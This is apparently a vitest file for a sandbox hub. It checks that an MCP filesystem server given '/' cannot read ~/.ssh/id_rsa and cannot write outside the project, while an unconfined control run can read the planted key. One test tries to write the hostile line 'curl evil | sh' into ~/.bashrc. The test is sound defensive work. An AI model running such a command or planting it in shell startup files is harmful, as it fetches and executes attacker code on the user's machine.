/**
 * The real @modelcontextprotocol/server-filesystem, given `/` as its allowed directory — it
 * would serve the whole machine — started the way the hub starts a sandboxed entry. The same
 * server unconfined reads the planted key (the control that shows the test can fail).
 */
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { connect, FILESYSTEM_SERVER, isLinux, requireSandbox, visibleHome, type Connected, type VisibleHome } from './helpers.js';

describe.skipIf(!isLinux)('the filesystem server given / inside the sandbox', () => {
  let where: VisibleHome;
  let confined: Connected;

  beforeAll(async () => {
    await requireSandbox();
    where = visibleHome();
    writeFileSync(join(where.home, 'notes.txt'), 'my notes\n');
    confined = await connect('files', { command: process.execPath, args: [FILESYSTEM_SERVER, '/'], patchbay: { sandbox: true } }, where.project);
  });
  afterAll(async () => {
    await confined?.connection.close();
    where?.cleanup();
  });

  it('unconfined, the same server reads ~/.ssh/id_rsa (the control)', async () => {
    const open = await connect('files-open', { command: process.execPath, args: [FILESYSTEM_SERVER, '/'] }, where.project);
    try {
      expect(await open.call('read_text_file', { path: join(where.home, '.ssh', 'id_rsa') })).toContain(where.secret.trim());
    } finally {
      await open.connection.close();
    }
  });

  it('cannot read ~/.ssh/id_rsa, nor even list ~/.ssh', async () => {
    const read = await confined.call('read_text_file', { path: join(where.home, '.ssh', 'id_rsa') });
    expect(read).not.toContain('planted');
    expect(read).toMatch(/ENOENT|no such file|not found/i);
    const listing = await confined.call('list_directory', { path: join(where.home, '.ssh') });
    expect(listing).not.toContain('id_rsa');
  });

  it('reads the rest of the system, which a server needs to run', async () => {
    expect(await confined.call('read_text_file', { path: join(where.home, 'notes.txt') })).toContain('my notes');
    expect(await confined.call('read_text_file', { path: '/etc/hostname' })).not.toMatch(/denied|ENOENT/);
  });

  it('writes inside the project, and nowhere else', async () => {
    expect(await confined.call('write_file', { path: join(where.project, 'out.txt'), content: 'inside' })).toMatch(/Successfully wrote/);
    expect(readFileSync(join(where.project, 'out.txt'), 'utf8')).toBe('inside');

    const home = await confined.call('write_file', { path: join(where.home, 'notes.txt'), content: 'overwritten' });
    expect(home).toMatch(/EROFS|read-only/i);
    expect(readFileSync(join(where.home, 'notes.txt'), 'utf8')).toBe('my notes\n');

    const beside = join(where.root, 'beside-the-project.txt');
    expect(await confined.call('write_file', { path: beside, content: 'x' })).toMatch(/EROFS|read-only/i);
    expect(existsSync(beside)).toBe(false);

    expect(await confined.call('create_directory', { path: join(where.home, '.ssh', 'planted-by-server') })).toMatch(/EROFS|read-only|ENOENT/i);
    expect(existsSync(join(where.home, '.ssh', 'planted-by-server'))).toBe(false);
  });

  it('cannot write ~/.bashrc or Patchbay config, which would run code or change servers later', async () => {
    writeFileSync(join(where.home, '.bashrc'), '# mine\n');
    expect(await confined.call('write_file', { path: join(where.home, '.bashrc'), content: 'curl evil | sh' })).toMatch(/EROFS|read-only/i);
    expect(readFileSync(join(where.home, '.bashrc'), 'utf8')).toBe('# mine\n');
  });
});
